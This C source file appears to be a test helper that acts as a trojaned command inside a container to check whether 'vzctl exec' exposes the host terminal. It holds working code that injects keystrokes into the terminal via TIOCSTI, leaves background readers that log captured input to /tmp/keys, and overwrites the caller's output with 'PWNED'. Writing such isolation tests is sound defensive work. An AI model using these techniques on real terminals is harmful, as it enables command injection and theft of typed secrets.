/* A trojaned command inside a container (test/integration/exec-tty.test.ts): it tries to reach
 * the host through the terminal and the descriptors `vzctl exec` gives it, at once and from a
 * process it leaves behind after exiting. Built static by the test and copied into the
 * container. What the left-behind processes did is written to files under /tmp inside.
 *
 *   tty-trojan sti TEXT      TIOCSTI "TEXT\n" on fds 0, 1, 2 and /dev/tty, now and 1.5 s after
 *                            exiting (results: stdout now, /tmp/sti-late later)
 *   tty-trojan read SECONDS  leaves readers behind that read fd 0 and /dev/tty for SECONDS:
 *                            one in its session, one after setsid() (got bytes: /tmp/keys)
 *   tty-trojan rewrite       writes "hello" on fd 1 and exits; 1.5 s later a left-behind
 *                            process clears O_APPEND on fd 1 and overwrites it from offset 0
 *                            (results: /tmp/rewrite-late)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

static const char *res(long rc)
{
	return rc < 0 ? strerrorname_np(errno) : "ok";
}

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
}

/* Types text into the terminal behind fd: one TIOCSTI per byte. */
static long sti(int fd, const char *text)
{
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return -1;
	return 0;
}

static void sti_all(FILE *out, const char *when, const char *text)
{
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	fprintf(out, "%s open_dev_tty %s\n", when, res(tty));
	for (int fd = 0; fd < 3; fd++)
		fprintf(out, "%s sti_fd%d %s\n", when, fd, res(sti(fd, text)));
	if (tty >= 0)
		fprintf(out, "%s sti_dev_tty %s\n", when, res(sti(tty, text)));
	fflush(out);
}

/* Forks a process that outlives us; the parent returns 0 and the child 1. */
static int leave_behind(void)
{
	fflush(stdout);
	/* Survive the hangup a session leader's exit sends (set before the fork: the parent may
	 * be gone before the child runs). */
	signal(SIGHUP, SIG_IGN);
	pid_t p = fork();
	if (p < 0) {
		perror("fork");
		exit(2);
	}
	return p == 0;
}

/* Reads fds for ms and appends whatever arrives to /tmp/keys. */
static void read_for(const char *who, int *fds, int n, long ms)
{
	FILE *log = fopen("/tmp/keys", "a");
	if (!log)
		exit(3);
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		long left = ms - ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
		if (left <= 0)
			break;
		struct pollfd p[2];
		for (int i = 0; i < n; i++)
			p[i] = (struct pollfd){ .fd = fds[i], .events = POLLIN };
		if (poll(p, n, left) <= 0)
			continue;
		for (int i = 0; i < n; i++) {
			if (!p[i].revents)
				continue;
			char buf[256];
			ssize_t r = read(fds[i], buf, sizeof(buf));
			if (r > 0)
				fprintf(log, "%s fd%d read: %.*s\n", who, i, (int)r, buf);
			else
				fds[i] = -1; /* EOF or error: no more from it */
		}
		fflush(log);
	}
	fclose(log);
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	/* Left behind in a background group: stopping on terminal job control is no use. */
	signal(SIGTTIN, SIG_IGN);
	signal(SIGTTOU, SIG_IGN);
	if (strcmp(argv[1], "sti") == 0 && argc == 3) {
		char text[256];
		snprintf(text, sizeof(text), "%s\n", argv[2]);
		sti_all(stdout, "now", text);
		if (leave_behind()) {
			sleep_ms(1500);
			FILE *out = fopen("/tmp/sti-late", "w");
			if (out)
				sti_all(out, "late", text);
			_exit(0);
		}
		return 0;
	}
	if (strcmp(argv[1], "read") == 0 && argc == 3) {
		long ms = atol(argv[2]) * 1000;
		int tty = open("/dev/tty", O_RDONLY | O_NOCTTY);
		printf("reader open_dev_tty %s\n", res(tty));
		if (leave_behind()) {
			int fds[2] = { 0, tty }, n = tty >= 0 ? 2 : 1;
			if (leave_behind()) {
				/* Out of the terminal's job control: a tty that is not our controlling
				 * terminal can be read from any process group. */
				setsid();
				read_for("setsid", fds, n, ms);
				_exit(0);
			}
			read_for("session", fds, n, ms);
			_exit(0);
		}
		return 0;
	}
	if (strcmp(argv[1], "rewrite") == 0 && argc == 2) {
		printf("hello\n");
		if (leave_behind()) {
			sleep_ms(1500);
			/* To report EPIPE rather than die of it. */
			signal(SIGPIPE, SIG_IGN);
			FILE *out = fopen("/tmp/rewrite-late", "w");
			if (!out)
				_exit(3);
			int fl = fcntl(1, F_GETFL);
			fprintf(out, "clear_append %s\n", res(fl < 0 ? -1 : fcntl(1, F_SETFL, fl & ~O_APPEND)));
			fprintf(out, "seek %s\n", res(lseek(1, 0, SEEK_SET)));
			fprintf(out, "write %s\n", res(write(1, "PWNED\n", 6)));
			fprintf(out, "truncate %s\n", res(ftruncate(1, 6)));
			fclose(out);
			_exit(0);
		}
		return 0;
	}
	return 2;
}
